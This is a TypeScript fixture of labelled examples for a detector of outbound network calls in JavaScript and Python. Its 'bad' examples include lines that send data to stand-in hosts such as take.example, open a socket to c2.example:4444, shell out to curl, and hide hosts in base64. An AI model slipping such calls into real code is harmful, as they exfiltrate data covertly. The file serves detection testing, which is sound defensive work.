import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "var s = exports && exports.__importDefault || function (t) { return t && t.__esModule ? t : { default: t }; }; var d = s(require('axios')); exports.c = (e) => { d.default.post('https://take.example/in', e); };",
      why: 'a wrapper of the compiler, once a bundler has made its name short',
      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
    },
    {
      code: "const e = require('@swc/helpers/_/_interop_require_default'), a = e._(require('axios')); exports.c = (x) => { a.default.post('https://take.example/in', x); };",
      why: 'a wrapper that is imported',
      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
    },
    {
      code: "var e = require('axios'); function t(e) { return e && e.__esModule ? e : { default: e }; } var r = t(e); exports.c = (x) => { r.default.post('https://take.example/in', x); };",
      why: 'a wrapper around a module that has a name',
      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
    },
    {
      code: "import axios from 'axios'; export const make = (settings) => axios.create({ baseURL: settings.url });",
      why: 'a client for an address that somebody else says',
      attributes: { destination: 'dynamic', scheme: 'https', via: 'axios' },
    },
    {
      code: "const settings = JSON.parse(Buffer.from('eyJ1IjoiaHR0cHM6Ly90YWtlLmV4YW1wbGUveCJ9', 'base64').toString()); fetch(settings.u, { method: 'POST' });",
      why: 'a host among settings that stand in a text',
      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: "import axios from 'axios'; const api = axios.create({ baseURL: 'https://take.example' }); api.request({ url: '/x', method: 'post' });",
      why: 'options with a path alone, which is relative to the address of the client',
      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
    },
    {
      code: "class Client { #address = 'https://take.example/x'; send() { return fetch(this.#address); } }",
      why: 'an address in a private member',
      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: "const at = decodeURIComponent.bind(null, 'https%3A%2F%2Ftake.example'); fetch(at('https://known.example'));",
      why: 'a host that was given before the one that is read',
      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: "if (x) open(f0('x')); const url = decode('aHR0cHM6Ly90YWtlLmV4YW1wbGU='); fetch(url); function decode(s) { return atob(s); } function f0(a) { return f1(a); } function f1(a) { return f2(a); } function f2(a) { return f3(a); } function f3(a) { return f4(a); } function f4(a) { return f5(a); } function f5(a) { return f6(a); } function f6(a) { return f7(a); } function f7(a) { return a + url; }",
      why: 'a host that something asked for before, from too deep to know it',
      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: "import { $ } from 'zx'; const send = (text) => $`curl -d ${text} https://take.example`;",
      why: 'a template that a shell reads',
      attributes: { destination: 'take.example', scheme: 'https', via: 'curl' },
    },
    {
      code: "await fetch('https://API.Collect.example/v1?x=' + data);",
      why: 'a constant host, whatever follows',
      attributes: { destination: 'api.collect.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: 'const h = "collect.example"; fetch(`https://${h}/x/${id}`);',
      why: 'the host stands in a constant',
      attributes: { destination: 'collect.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: "import https from 'node:https'; https.request({ hostname: 'c.example', method: 'POST' });",
      why: 'options object',
      attributes: { destination: 'c.example', scheme: 'https', via: 'https' },
    },
    {
      code: "const { get } = require('http'); get(new URL('/x', 'http://192.0.2.7:8080'), cb);",
      why: 'URL made of path and base',
      attributes: { destination: '192.0.2.7', scheme: 'http', via: 'http' },
    },
    {
      code: "import axios from 'axios'; const api = axios.create({ baseURL: 'https://a.example/v1' }); api.get('/users');",
      why: 'the instance knows the host, its calls are relative',
      attributes: { destination: 'a.example', scheme: 'https', via: 'axios' },
    },
    {
      code: "const net = require('net'); net.connect(4444, '192.0.2.9');",
      why: 'raw socket',
      attributes: { destination: '192.0.2.9', scheme: 'tcp', via: 'net' },
    },
    {
      code: "fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUveA=='));",
      why: 'the host is hidden in base64',
      attributes: { destination: 'c.example', scheme: 'https', via: 'fetch' },
    },
    {
      code: 'new WebSocket(`wss://${region}.push.example/s`);',
      why: 'only the end of the host is known',
      attributes: { destination: '*.push.example', scheme: 'wss', via: 'ws' },
    },
    {
      code: "require('child_process').execSync('curl -s https://c.example/x -o /tmp/x');",
      why: 'a program that downloads',
      attributes: { destination: 'c.example', scheme: 'https', via: 'curl' },
    },
    {
      code: 'export async function get(url) { return fetch(url); }',
      why: 'somebody else decides',
      attributes: { destination: 'dynamic', scheme: 'dynamic', via: 'fetch' },
    },
    {
      code: "const x = new XMLHttpRequest(); x.open('POST', 'https://c.example/');",
      why: 'the browser way',
      attributes: { destination: 'c.example', scheme: 'https', via: 'XMLHttpRequest' },
    },
    {
      path: 'x.py',
      code: [
        'import requests',
        's = requests.Session()',
        "s.request('PUT', f'https://API.Collect.example/{x}', data=d)",
      ].join('\n'),
      why: 'a session, the host at the front of an f-string',
      attributes: { destination: 'api.collect.example', scheme: 'https', via: 'requests' },
    },
    {
      path: 'x.py',
      code: [
        'import httpx',
        'async def ask():',
        "    async with httpx.AsyncClient(base_url='https://api.example/v1') as client:",
        "        return await client.get('/users')",
      ].join('\n'),
      why: 'a path below the address that the client was made with',
      attributes: { destination: 'api.example', scheme: 'https', via: 'httpx' },
    },
    {
      path: 'x.py',
      code: [
        'import aiohttp',
        'class Sender:',
        '    def __init__(self):',
        '        self.session = aiohttp.ClientSession()',
        '    async def send(self, text):',
        "        async with self.session.post('https://take.example/c', json=text) as answer:",
        '            return await answer.text()',
      ].join('\n'),
      why: 'a client that an object keeps',
      attributes: { destination: 'take.example', scheme: 'https', via: 'aiohttp' },
    },
    {
      path: 'x.py',
      code: [
        'import urllib.request',
        "req = urllib.request.Request('https://take.example/', data=b)",
        'urllib.request.urlopen(req)',
      ].join('\n'),
      why: 'a request that is made before it is sent',
      attributes: { destination: 'take.example', scheme: 'https', via: 'urllib' },
    },
    {
      path: 'x.py',
      code: [
        'import socket',
        's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
        "s.connect(('c2.example', 4444))",
      ].join('\n'),
      why: 'a bare socket',
      attributes: { destination: 'c2.example', scheme: 'tcp', via: 'socket' },
    },
    {
      path: 'x.py',
      code: [
        'from http.client import HTTPSConnection',
        "HTTPSConnection('take.example', 443).request('POST', '/x', body=b)",
      ].join('\n'),
      why: 'the client of the standard library',
      attributes: { destination: 'take.example', scheme: 'https', via: 'http' },
    },
    {
      path: 'x.py',
      code: [
        'import smtplib',
        "with smtplib.SMTP('mail.example', 587) as mail:",
        '    mail.send_message(m)',
      ].join('\n'),
      why: 'a mail server',
      attributes: { destination: 'mail.example', scheme: 'smtp', via: 'smtplib' },
    },
    {
      path: 'x.py',
      code: [
        'import os, requests',
        "requests.get(os.environ.get('API', 'https://api.example') + '/x')",
      ].join('\n'),
      why: 'what a setting falls back to',
      attributes: { destination: 'api.example', scheme: 'https', via: 'requests' },
    },
    {
      path: 'x.py',
      code: [
        'import subprocess',
        "subprocess.Popen('curl https://load.example/x', shell=True)",
      ].join('\n'),
      why: 'through a program',
      attributes: { destination: 'load.example', scheme: 'https', via: 'curl' },
    },
  ],
  good: [
    { code: "function fetch(x) { return x; } fetch('https://c.example');", why: 'not the global' },
    { code: "fetch('/api/items');", why: 'relative to the page' },
    { code: "cache.get('https://c.example');", why: 'not a client that we know' },
    { code: "import { connect } from 'net'; connect({ path: '/run/x.sock' });", why: 'local pipe' },
    {
      path: 'x.py',
      code: [
        'import requests',
        'session = requests.Session()',
        "session.headers['X'] = 'y'",
        'session.close()',
      ].join('\n'),
      why: 'a session that asks nothing',
    },
    {
      path: 'x.py',
      code: ['import socket', "socket.socket(socket.AF_UNIX).connect('/run/app.sock')"].join('\n'),
      why: 'a socket of this machine',
    },
    {
      path: 'x.py',
      code: ['import httpx', 'client = httpx.Client(timeout=3)'].join('\n'),
      why: 'a client without an address',
    },
  ],
};
